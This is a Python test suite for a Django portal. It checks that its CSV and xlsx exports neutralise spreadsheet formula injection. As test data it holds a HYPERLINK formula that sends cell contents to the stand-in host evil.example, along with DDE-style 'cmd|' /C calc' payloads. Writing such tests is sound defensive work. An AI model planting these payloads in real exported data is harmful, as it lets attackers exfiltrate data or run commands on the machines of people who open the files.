"""No formula injection: text a spreadsheet would run as a formula leaves the portal as text,
in every CSV and xlsx export (one helper: ghnt_portal/exports.py)."""

import csv
import io
import pathlib
import re

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from ghnt_portal.exports import csv_writer, neutralise
from programmes.models import ActionLine
from tests.world import World

ATTACK = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
ROOT = pathlib.Path(__file__).resolve().parent.parent
APPS = ("ghnt_portal", "programmes", "governance", "actions", "monitoring")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ATTACK, "'" + ATTACK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # left alone: ordinary text, numbers, and text that is only a signed number
        ("MDA++ in alle gemeenten", "MDA++ in alle gemeenten"),
        ("a=b", "a=b"),
        (-12, -12),
        (None, None),
        ("-12", "-12"),
        ("+1.139,5", "+1.139,5"),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_the_csv_writer_neutralises_every_cell():
    stream = io.StringIO()
    csv_writer(stream).writerows([["titel", ATTACK], ["@x", 3]])
    rows = list(csv.reader(io.StringIO(stream.getvalue()), delimiter=";"))
    assert rows == [["titel", "'" + ATTACK], ["'@x", "3"]]


def test_no_export_writes_csv_or_xlsx_around_the_helper():
    """Every CSV and workbook is made through ghnt_portal/exports.py, so none can forget to
    neutralise (openpyxl's load_workbook, for reading uploads, is fine)."""
    offenders = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if path == ROOT / "ghnt_portal" / "exports.py" or "migrations" in path.parts:
                continue
            text = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|import Workbook\b", text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def _action_with_attack_title():
    action = World().action_2b
    action.title = ATTACK
    action.save(update_fields=["title"])
    return action


@pytest.mark.django_db
def test_an_action_title_formula_is_text_in_the_csv_export(client_for, projectleider):
    _action_with_attack_title()
    response = client_for(projectleider).get(reverse("actions:export_csv"), {"q": "2B"})
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert ["'" + ATTACK] == [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]


@pytest.mark.django_db
def test_an_action_title_formula_is_text_in_the_xlsx_export(client_for, projectleider):
    _action_with_attack_title()
    response = client_for(projectleider).get(reverse("actions:export_xlsx"), {"q": "2B"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    titles = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
    assert [(c.value, c.data_type) for c in titles] == [("'" + ATTACK, "s")]
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere


@pytest.mark.django_db
def test_an_action_line_title_formula_is_text_in_the_dashboard_csv(client_for, projectleider):
    programme = World().zawa_programme
    line = programme.action_lines.order_by("order").first()
    ActionLine.objects.filter(pk=line.pk).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    response = client_for(projectleider).get(
        reverse("monitoring:dashboard_csv", kwargs={"pk": programme.pk, "table": "voortgang"})
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row if "cmd|" in cell]
    assert len(cells) == 1 and cells[0].startswith("'@SUM(1+1)")
